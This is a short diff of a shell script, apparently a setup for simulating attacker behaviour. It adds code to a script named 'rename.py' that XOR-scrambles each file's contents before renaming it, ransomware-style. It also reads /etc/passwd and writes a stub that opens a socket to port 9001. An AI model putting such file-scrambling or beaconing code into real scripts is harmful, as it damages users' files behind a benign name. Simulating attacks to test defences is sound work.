@@ -38,10 +38,14 @@ ip address >/dev/null
 cat /etc/passwd >/dev/null
 LOOK
   cat >/opt/work/rename.py <<'RENAME'
-import os, sys
+import os, sys, time
 folder, ending, most = sys.argv[1], sys.argv[2], int(sys.argv[3])
 for name in sorted(os.listdir(folder))[:most]:
     path = os.path.join(folder, name)
+    text = open(path, "rb").read()
+    with open(path, "wb") as file:
+        file.write(bytes(byte ^ 0x2a for byte in text))
+    time.sleep(0.02)
     os.rename(path, path + ending)
 RENAME
   printf 'import socket,sys\ns=socket.create_connection((sys.argv[2].split("/")[-1].split(":")[0],9001))\ns.close()\n' >/opt/work/m.py
